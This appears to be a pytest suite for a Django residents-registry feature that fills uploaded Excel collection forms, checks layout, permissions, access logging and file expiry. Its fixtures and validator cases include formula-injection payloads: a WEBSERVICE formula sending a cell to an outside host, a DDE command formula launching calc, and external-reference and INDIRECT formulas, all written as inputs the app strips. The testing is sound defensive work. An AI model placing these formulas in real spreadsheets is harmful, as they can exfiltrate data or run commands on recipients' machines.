"""A superior's empty workbook comes back filled: same layout, own rows, no formula, on record."""

import re
import zipfile
from io import BytesIO

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl.styles import Alignment, Border, Font, Side

from residents import tasks
from residents.exports import form_sheet, forms, queue
from residents.models import AccessRecord, Export
from tests import factories

LINES = Border(*[Side(style="thin")] * 4)


@pytest.fixture
def people(ground):
    home = factories.household(ground[0], head_name="王秀兰")
    return [
        factories.resident(home, name=name, phone="13812346210", employer=employer)
        for name, employer in [
            ("王秀兰", "=1+1"),
            ("李建国", "枣矿集团"),
            ("张三", "@SUM(A1)"),
        ]
    ]


def form(*, empty_rows=2, heads_in=4, extra=None):
    """A form as streets send it: title, two rows of heads, empty lines, a sum, signatures."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "采集表"
    sheet.merge_cells("A1:F1")
    sheet["A1"] = "附件2：人口信息采集表"
    sheet["A1"].font = Font(bold=True, size=18)
    sheet["A2"] = "填报单位："
    top, low = heads_in - 1, heads_in
    for column, head in zip("ADEF", ["序号", "身份证号码", "工作单位", "是否参保"], strict=True):
        sheet.merge_cells(f"{column}{top}:{column}{low}")
        sheet[f"{column}{top}"] = head
    sheet.merge_cells(f"B{top}:C{top}")
    sheet[f"B{top}"], sheet[f"B{low}"], sheet[f"C{low}"] = (
        "基本情况",
        "姓 名",
        "性别\n（男/女）",
    )
    first = low + 1
    for row in range(first, first + empty_rows):
        sheet.row_dimensions[row].height = 23
        sheet.cell(row, 1).value = row - low
        for column in range(1, 7):
            sheet.cell(row, column).border = LINES
            sheet.cell(row, column).alignment = Alignment(horizontal="center")
    foot = first + empty_rows
    sheet.merge_cells(f"A{foot}:B{foot}")
    sheet[f"A{foot}"] = "合计"
    sheet[f"C{foot}"] = f"=COUNTA(C{first}:C{foot - 1})" if empty_rows else "=SUM(A1:A2)"
    sheet[f"D{foot}"] = '=WEBSERVICE("http://example.org/?"&B5)'
    sheet.merge_cells(f"A{foot + 1}:F{foot + 1}")
    sheet[f"A{foot + 1}"] = "审核人：      填表人："
    sheet.column_dimensions["D"].width = 27
    for address, value in (extra or {}).items():
        sheet[address] = value
    return book


def upload(book):
    file = BytesIO()
    book.save(file)
    return SimpleUploadedFile("街道采集表.xlsx", file.getvalue())


def send(client, file, subject="residents", **data):
    """The answer to the form that was sent; a worker has filled it meanwhile."""
    data = {"template": file, "purpose": "街道要求"} | data
    answer = client.post(f"{reverse('residents:fill')}?subject={subject}", data)
    for export in Export.objects.filter(state="waiting"):
        queue.work(export.pk)
    return answer


def filled(client):
    export = Export.objects.latest("pk")
    answer = client.get(reverse("residents:export_file", args=[export.pk]))
    assert answer.status_code == 200
    return openpyxl.load_workbook(BytesIO(b"".join(answer.streaming_content)))


def rows(sheet, first, last):
    return [
        [cell.value for cell in row]
        for row in sheet.iter_rows(min_row=first, max_row=last, max_col=6)
    ]


def test_the_form_comes_back_in_its_own_layout_with_the_rows(client, ground, people, enter):
    enter("grid_leader", ground[0])

    answer = send(client, upload(form()))

    assert answer.status_code == 302
    sheet = filled(client)["采集表"]
    assert sheet["A1"].value == "附件2：人口信息采集表"
    assert sheet["A1"].font.size == 18
    assert sheet.column_dimensions["D"].width == 27
    masks = [one.id_mask for one in people]
    assert rows(sheet, 5, 7) == [
        [1, "王秀兰", "女", masks[0], "=1+1", None],
        [2, "李建国", "女", masks[1], "枣矿集团", None],
        [3, "张三", "女", masks[2], "@SUM(A1)", None],
    ]
    assert rows(sheet, 8, 9)[0][:3] == ["合计", None, "=COUNTA(C5:C7)"]
    assert sheet["A9"].value == "审核人：      填表人："
    merged = {str(area) for area in sheet.merged_cells.ranges}
    assert {"A1:F1", "B3:C3", "A8:B8", "A9:F9"} <= merged
    assert sheet["F7"].border.left.style == "thin"
    assert sheet.row_dimensions[7].height == 23


def test_no_cell_of_ours_is_a_formula_and_the_senders_may_only_add_up(
    client, ground, people, enter
):
    enter("grid_leader", ground[0])

    send(client, upload(form(extra={"H1": '=HYPERLINK("http://x","y")'})))

    sheet = filled(client)["采集表"]
    formulas = [cell.value for row in sheet for cell in row if cell.data_type == "f"]
    assert formulas == ["=COUNTA(C5:C7)"]


@pytest.mark.parametrize(
    ("formula", "is_fine"),
    [
        ("=SUM(B2:B9)", True),
        ("=IF(A1>3,1,0)", True),
        ("=WEBSERVICE(A1)", False),
        ("=[1]Sheet1!A1", False),
        ("=cmd|'/c calc'!A0", False),
        ("=INDIRECT(A1)", False),
        ('="x"&A1', False),
    ],
)
def test_a_formula_stays_only_if_it_adds_up(formula, is_fine):
    assert form_sheet.is_harmless(formula) is is_fine


def test_what_the_register_does_not_know_stays_empty_and_is_named(client, ground, people, enter):
    enter("grid_leader", ground[0])

    answer = send(client, upload(form()))

    page = client.get(answer.url).content.decode()
    assert "是否参保" in page[page.index("留空") :]
    assert "姓 名" in page[page.index("已回填") : page.index("留空")]


@pytest.mark.parametrize("heads_in", [4, 9, 20])
def test_the_head_is_found_anywhere_in_the_first_20_rows(client, ground, people, enter, heads_in):
    enter("grid_leader", ground[0])

    send(client, upload(form(heads_in=heads_in)))

    assert filled(client)["采集表"].cell(heads_in + 1, 2).value == "王秀兰"


@pytest.mark.parametrize("empty_rows", [0, 1, 3, 10])
def test_the_signatures_stay_below_the_rows(client, ground, people, enter, empty_rows):
    enter("grid_leader", ground[0])

    send(client, upload(form(empty_rows=empty_rows)))

    sheet = filled(client)["采集表"]
    foot = 5 + max(3, empty_rows)
    assert sheet.cell(foot, 1).value == "合计"
    assert sheet.cell(foot + 1, 1).value == "审核人：      填表人："
    assert [sheet.cell(row, 2).value for row in (5, 6, 7)] == [
        "王秀兰",
        "李建国",
        "张三",
    ]
    assert sheet.cell(4 + max(3, empty_rows), 2).value in ("张三", None)


def test_each_row_stands_once_in_the_file(client, ground, people, enter):
    """Also the empty ones that the form had: Excel mends a workbook that says a row twice."""
    enter("grid_leader", ground[0])

    send(client, upload(form(empty_rows=2)))

    export = Export.objects.latest("pk")
    answer = client.get(reverse("residents:export_file", args=[export.pk]))
    with zipfile.ZipFile(BytesIO(b"".join(answer.streaming_content))) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    numbers = [int(number) for number in re.findall(r'<row [^>]*?r="(\d+)"', sheet)]
    assert {5, 6, 7} <= set(numbers)
    assert numbers == sorted(set(numbers))


def test_a_plain_row_of_heads_is_enough(client, ground, people, enter):
    enter("grid_leader", ground[0])
    book = openpyxl.Workbook()
    book.active.append(["姓名", "年龄", "联系电话", "网格"])

    send(client, upload(book))

    sheet = filled(client).active
    assert sheet["A2"].value == "王秀兰"
    assert sheet.max_row == 4


def test_full_numbers_are_filled_in_only_on_demand_and_on_record(client, ground, people, enter):
    leader = enter("grid_leader", ground[0])
    people[0].refresh_from_db()
    number = people[0].id_sealed.reveal()

    send(client, upload(form()))
    assert filled(client)["采集表"]["D5"].value == people[0].id_mask
    assert not AccessRecord.objects.exists()
    send(client, upload(form()), full="on")

    cell = filled(client)["采集表"]["D5"]
    assert (cell.value, cell.data_type) == (number, "s")
    records = AccessRecord.objects.filter(field="id_number", by=leader)
    assert sorted(records.values_list("resident", flat=True)) == [one.pk for one in people]
    assert set(records.values_list("purpose", flat=True)) == {"街道要求"}


def test_only_the_rows_asked_for_are_filled_in(client, ground, people, enter):
    enter("grid_leader", ground[0].parent)
    stranger = factories.resident(grid=ground[1], name="李四", kind="floating")
    factories.resident(grid=factories.unit("520602003003001"), name="外地人", kind="floating")

    client.post(
        f"{reverse('residents:fill')}?subject=residents&kind=floating",
        {"template": upload(form()), "purpose": "街道要求"},
    )

    queue.work(Export.objects.latest("pk").pk)
    sheet = filled(client)["采集表"]
    assert sheet["B5"].value == stranger.name
    assert sheet["B6"].value is None
    assert Export.objects.get().rows == 1


@pytest.mark.parametrize(
    ("subject", "heads", "expected"),
    [
        ("households", ["户主姓名", "家庭人口数", "楼栋", "室号"], ["王秀兰", 3, "1号楼"]),
        (
            "premises",
            ["企业名称", "法定代表人", "从业人数", "统一社会信用代码"],
            ["利民超市", "王秀兰", 4],
        ),
    ],
)
def test_forms_of_households_and_premises_are_filled(
    client, ground, people, enter, subject, heads, expected
):
    enter("grid_leader", ground[0])
    factories.premises(ground[0], "利民超市", responsible_person="王秀兰", head_count=4)
    book = openpyxl.Workbook()
    book.active.append(["一览表"])
    book.active.append(heads)

    send(client, upload(book), subject)

    found = [cell.value for cell in filled(client).active[3]]
    assert found[:3] == expected


@pytest.mark.parametrize(
    ("file", "word"),
    [
        (SimpleUploadedFile("a.xlsx", b"no workbook"), "另存为 .xlsx"),
        (
            SimpleUploadedFile("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 600),
            "另存为 .xlsx",
        ),
        (SimpleUploadedFile("a.xlsx", b"PK\x03\x04" + b"0" * (forms.MAX_BYTES + 1)), "太大"),
    ],
)
def test_what_is_no_form_by_its_look_is_refused_at_once(client, ground, enter, file, word):
    enter("grid_leader", ground[0])
    file.seek(0)

    answer = send(client, file)

    assert answer.status_code == 422
    assert word in answer.content.decode()
    assert not Export.objects.exists()


def wide():
    book = openpyxl.Workbook()
    for row in range(1, 400):
        book.active.cell(row, 5_000, "x")
    return book


@pytest.mark.parametrize(
    ("file", "word"),
    [
        (SimpleUploadedFile("a.xlsx", b"PK\x03\x04" + b"0" * 50), "另存为 .xlsx"),
        (upload(openpyxl.Workbook()), "没有找到"),
        (upload(wide()), "太大"),
    ],
)
def test_a_worker_says_why_a_form_cannot_be_filled(client, ground, enter, file, word):
    enter("grid_leader", ground[0])
    file.seek(0)

    answer = send(client, file)

    assert answer.status_code == 302
    assert word in client.get(answer.url).content.decode()
    assert (Export.objects.get().state, Export.objects.get().file.name) == ("failed", "")


@pytest.mark.parametrize("role", ["grid_worker", "supervisor", "auditor"])
def test_who_may_not_export_fills_no_form(client, ground, people, enter, role):
    enter(role, ground[0])

    assert client.get(reverse("residents:fill")).status_code == 403
    assert send(client, upload(form())).status_code == 403
    assert not Export.objects.exists()


def test_care_is_filled_in_only_for_those_who_may_read_it(client, ground, people, enter):
    factories.care_record(people[0])
    book = openpyxl.Workbook()
    book.active.append(["姓名", "年龄", "特殊群体类别"])

    enter("information_officer", ground[0])
    answer = send(client, upload(book))
    assert filled(client).active["C2"].value is None
    assert "特殊群体类别" in client.get(answer.url).content.decode()

    enter("grid_leader", ground[0])
    send(client, upload(book))
    assert filled(client).active["C2"].value == "独居老人"
    assert AccessRecord.objects.filter(field="care", resident=people[0]).exists()


def test_many_rows_wait_for_a_worker_and_the_files_expire(
    client, ground, people, enter, monkeypatch
):
    monkeypatch.setattr(queue, "AT_ONCE", 2)
    asked = []
    monkeypatch.setattr(tasks.run_export, "delay", asked.append)
    enter("grid_leader", ground[0])

    send(client, upload(form()))

    [key] = asked
    queue.work(key)
    export = Export.objects.get(pk=key)
    assert (export.state, export.rows) == ("done", 3)
    assert filled(client)["采集表"]["B7"].value == "张三"
    later = timezone.now() + queue.KEPT + timezone.timedelta(days=1)
    assert queue.expire_files(later) == 1
    export.refresh_from_db()
    assert not export.file
    assert not export.template
    assert "街道采集表" in client.get(reverse("residents:exports")).content.decode()


def test_a_purpose_is_asked_for(client, ground, people, enter):
    enter("grid_leader", ground[0])

    assert send(client, upload(form()), purpose="").status_code == 422
    assert not Export.objects.exists()
